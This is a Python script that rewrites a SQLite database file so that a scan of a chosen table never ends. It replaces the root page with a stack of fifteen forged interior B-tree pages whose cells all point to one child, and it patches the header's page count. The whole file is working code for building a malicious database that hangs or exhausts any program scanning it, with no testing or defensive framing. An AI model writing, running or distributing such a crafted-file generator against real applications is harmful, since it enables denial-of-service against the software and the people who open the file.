"""A SQLite table that never ends: interior pages whose cells all point to the same child."""

import sqlite3
import struct
from contextlib import closing

LEVELS, CELLS = 15, 300  # a scan finds 300^15 times the actual rows


def make_endless(path, table):
    """Change the file of a closed database so that a scan of `table` does not end."""
    with closing(sqlite3.connect(path)) as db:
        (root,), = db.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,))
        size, = db.execute("PRAGMA page_size").fetchone()
    with open(path, "r+b") as file:
        content = bytearray(file.read())
        n_pages = len(content) // size
        first = content[(root - 1) * size:root * size]
        is_table = first[0] in (5, 13)
        content += first  # the root's rows, one page further down
        below = n_pages + 1
        for _ in range(LEVELS):
            content += interior(below, size, is_table, first)
            below += 1
        content[(root - 1) * size:root * size] = interior(below, size, is_table, first)
        content[28:32] = struct.pack(">I", len(content) // size)
        file.seek(0)
        file.write(content)


def interior(child, size, is_table, leaf):
    """Return an interior page of equal cells; those of an index hold the first key of the leaf."""
    key = b"\x01"
    if not is_table:
        at, = struct.unpack(">H", leaf[8:10])
        key = bytes(leaf[at:at + 1 + leaf[at]])
    cell = struct.pack(">I", child) + key
    n = min(CELLS, (size - 12) // (2 + len(cell)))
    start = size - n * len(cell)
    page = struct.pack(">BHHHBI", 5 if is_table else 2, 0, n, start, 0, child)
    page += b"".join(struct.pack(">H", start + i * len(cell)) for i in range(n))
    return page.ljust(start, b"\0") + cell * n
